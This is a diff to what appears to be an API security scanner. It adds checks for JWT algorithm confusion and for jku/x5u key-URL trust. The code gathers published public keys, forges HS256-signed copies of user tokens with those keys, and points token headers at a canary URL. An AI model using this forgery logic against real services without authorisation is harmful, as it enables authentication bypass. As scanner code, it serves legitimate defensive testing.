@@ -6,15 +6,21 @@
  *  - auth.jwt-signature-unchecked: a claim added, the original signature kept.
  *  - auth.jwt-weak-secret: the HMAC secret is in a wordlist (offline, no request).
  *  - auth.jwt-expiry-unchecked: with the cracked secret, a copy whose `exp` is past.
+ *  - auth.jwt-alg-confusion: an RS/PS/ES/EdDSA token re-signed HS256 with the API's published public
+ *    key (JWKS at the usual places, the token's own `jku` on the origin, or a key operation of the
+ *    description) as the HMAC secret.
+ *  - auth.jwt-key-url: copies whose `jku`/`x5u` header points at the scanner's canary; the server
+ *    fetching it is the proof.
  * Findings are placed on the login operation (where the tokens come from) when the API has one.
  */
 import type { ApiOperation, Exchange, ScanRequest } from '../../model.js';
+import { isObject, type JsonObject } from './common.js';
 import type { Check, CheckContext } from '../../check.js';
 import { comparableContent, graphqlFieldName, is2xx, isEmptyContent, isMutating, jsonOf, locationOf, maskSecret, sameData, samplesOf } from './common.js';
 import { buildOperation, graphqlRequest, graphqlResult, graphqlSchema, requiredArgs, rootType, selectionFor } from './graphql.js';
-import { JWT_EXPIRY_INFO, JWT_NONE_INFO, JWT_SIGNATURE_INFO, JWT_WEAK_SECRET_INFO } from './info-auth.js';
+import { JWT_ALG_CONFUSION_INFO, JWT_EXPIRY_INFO, JWT_KEY_URL_INFO, JWT_NONE_INFO, JWT_SIGNATURE_INFO, JWT_WEAK_SECRET_INFO } from './info-auth.js';
 import { findLoginOperation } from './login-operation.js';
-import { crackHmac, decodeJwt, hmacAlgorithm, noneVariants, signHmac, tamperedPayload, type DecodedJwt } from './jwt-token.js';
+import { crackHmac, decodeJwt, hmacAlgorithm, isAsymmetric, noneVariants, publicKeyTexts, signHmac, tamperedPayload, withHeader, type DecodedJwt } from './jwt-token.js';
 import { derivedSecrets, JWT_SECRET_WORDLIST } from './jwt-wordlist.js';
 import { pathParams, restRequest } from './rest.js';
 
@@ -218,7 +224,132 @@ async function runExpiry(ctx: CheckContext): Promise<void> {
   });
 }
 
+/** Where APIs publish their public keys (under the origin and under the base path). */
+const KEY_PATHS = ['/.well-known/jwks.json', '/jwks.json', '/.well-known/openid-configuration', '/.well-known/keys', '/oauth2/jwks', '/oauth/jwks', '/api/jwks.json', '/keys'];
+const KEY_OPERATION = /jwks|certs|public[-_]?key|\.well-known/i;
+/** Most HMAC secrets tried (each a request). */
+const MAX_KEY_TEXTS = 12;
+
+interface PublishedKeys {
+  /** HMAC secrets to try, the token's `kid` first. */
+  readonly texts: readonly string[];
+  readonly exchange: Exchange;
+}
+
+function keyUrls(ctx: CheckContext, ut: UserToken): string[] {
+  const urls: string[] = [];
+  const add = (u: URL | string): void => {
+    const url = new URL(u.toString());
+    if (url.origin === ctx.baseUrl.origin && !urls.includes(url.toString())) urls.push(url.toString());
+  };
+  if (typeof ut.jwt.header.jku === 'string') {
+    try {
+      add(new URL(ut.jwt.header.jku));
+    } catch {
+      // not a URL: ignored
+    }
+  }
+  if (ctx.api.kind === 'rest') {
+    for (const op of ctx.api.operations) {
+      if (op.method !== 'GET' || !KEY_OPERATION.test(op.path) || pathParams(op.path).length > 0) continue;
+      const request = restRequest(ctx, op, {});
+      if (request !== undefined) add(request.url);
+    }
+  }
+  const prefixes = [...new Set([ctx.baseUrl.pathname.replace(/\/$/, ''), ''])];
+  for (const prefix of prefixes) for (const path of KEY_PATHS) add(new URL(`${prefix}${path}`, ctx.baseUrl.origin));
+  return urls;
+}
+
+/** Keys (JWK, JWK set, OpenID configuration's jwks_uri, PEM text) from one answer. */
+function keyTextsIn(body: string, kid: unknown): { texts: string[]; jwksUri?: string } {
+  const pem = body.match(/-----BEGIN (RSA )?PUBLIC KEY-----[A-Za-z0-9+/=\r\n]{1,8000}-----END (RSA )?PUBLIC KEY-----/);
+  if (pem !== null) return { texts: [`${pem[0]}\n`, pem[0]] };
+  let json: unknown;
+  try {
+    json = JSON.parse(body);
+  } catch {
+    return { texts: [] };
+  }
+  if (!isObject(json)) return { texts: [] };
+  if (typeof json.jwks_uri === 'string') return { texts: [], jwksUri: json.jwks_uri };
+  const keys = Array.isArray(json.keys) ? json.keys.filter(isObject) : typeof json.kty === 'string' ? [json] : [];
+  keys.sort((a: JsonObject, b: JsonObject) => Number(b.kid === kid) - Number(a.kid === kid));
+  return { texts: keys.slice(0, 4).flatMap((k: JsonObject) => publicKeyTexts(k)) };
+}
+
+async function publishedKeys(ctx: CheckContext, ut: UserToken): Promise<PublishedKeys | undefined> {
+  const urls = keyUrls(ctx, ut);
+  for (let i = 0; i < urls.length && i < 24; i++) {
+    if (!ctx.client.canSend()) return undefined;
+    const exchange = await ctx.client.send({ method: 'GET', url: urls[i]!, headers: { accept: 'application/json, application/jwk-set+json, */*;q=0.5' } });
+    if (!is2xx(exchange)) continue;
+    const found = keyTextsIn(exchange.response!.body.slice(0, 1 << 20), ut.jwt.header.kid);
+    if (found.jwksUri !== undefined) {
+      try {
+        const u = new URL(found.jwksUri, urls[i]);
+        if (u.origin === ctx.baseUrl.origin && !urls.includes(u.toString())) urls.splice(i + 1, 0, u.toString());
+      } catch {
+        // not a URL: ignored
+      }
+    }
+    if (found.texts.length > 0) return { texts: found.texts.slice(0, MAX_KEY_TEXTS), exchange };
+  }
+  return undefined;
+}
+
+async function runAlgConfusion(ctx: CheckContext): Promise<void> {
+  const ut = userToken(ctx);
+  if (ut === undefined || !isAsymmetric(ut.jwt.header.alg)) return;
+  const keys = await publishedKeys(ctx, ut);
+  if (keys === undefined) return;
+  const probe = await findProbe(ctx, ut);
+  if (probe === undefined) return;
+  const { jku: _jku, x5u: _x5u, jwk: _jwk, ...header } = ut.jwt.header;
+  for (const secret of keys.texts) {
+    if (!ctx.client.canSend()) return;
+    const forged = signHmac({ ...header, alg: 'HS256' }, ut.jwt.payload, secret);
+    if (forged === undefined) return;
+    const r = await sendWith(ctx, probe, forged);
+    if (!r.ok) continue;
+    ctx.report({
+      location: where(ctx, probe),
+      detail:
+        `${ut.user}'s ${String(ut.jwt.header.alg)} token re-signed as HS256 with the public key published at ${new URL(keys.exchange.request.url).pathname} ` +
+        `as the HMAC secret was accepted by ${locationOf(ctx.api, probe.op)}, which refuses anonymous requests.`,
+      evidence: [keys.exchange, probe.anonExchange, r.ex],
+    });
+    return;
+  }
+}
+
+async function runKeyUrl(ctx: CheckContext): Promise<void> {
+  const ut = userToken(ctx);
+  if (ut === undefined || !isAsymmetric(ut.jwt.header.alg)) return;
+  const probe = await findProbe(ctx, ut);
+  if (probe === undefined) return;
+  const sent: { name: string; url: string; ex: Exchange }[] = [];
+  for (const name of ['jku', 'x5u']) {
+    if (!ctx.client.canSend()) break;
+    const url = ctx.canary.url(`jwt ${name}`);
+    const r = await sendWith(ctx, probe, withHeader(ut.jwt, { ...ut.jwt.header, [name]: url }));
+    sent.push({ name, url, ex: r.ex });
+  }
+  const deadline = Date.now() + 3000;
+  for (const s of sent) {
+    if (!(await ctx.canary.wasHit(s.url, Math.max(0, deadline - Date.now())))) continue;
+    ctx.report({
+      location: where(ctx, probe),
+      detail: `A copy of ${ut.user}'s token whose "${s.name}" header named ${s.url} was sent to ${locationOf(ctx.api, probe.op)}, and the server fetched that URL from the scanner's canary: it takes verification keys from where the token says.`,
+      evidence: [s.ex],
+    });
+    return;
+  }
+}
+
 export const jwtNoneCheck: Check = { ...JWT_NONE_INFO, appliesTo: 'any', run: runNone };
 export const jwtSignatureCheck: Check = { ...JWT_SIGNATURE_INFO, appliesTo: 'any', run: runSignature };
 export const jwtWeakSecretCheck: Check = { ...JWT_WEAK_SECRET_INFO, appliesTo: 'any', run: runWeakSecret };
 export const jwtExpiryCheck: Check = { ...JWT_EXPIRY_INFO, appliesTo: 'any', run: runExpiry };
+export const jwtAlgConfusionCheck: Check = { ...JWT_ALG_CONFUSION_INFO, appliesTo: 'any', run: runAlgConfusion };
+export const jwtKeyUrlCheck: Check = { ...JWT_KEY_URL_INFO, appliesTo: 'any', run: runKeyUrl };
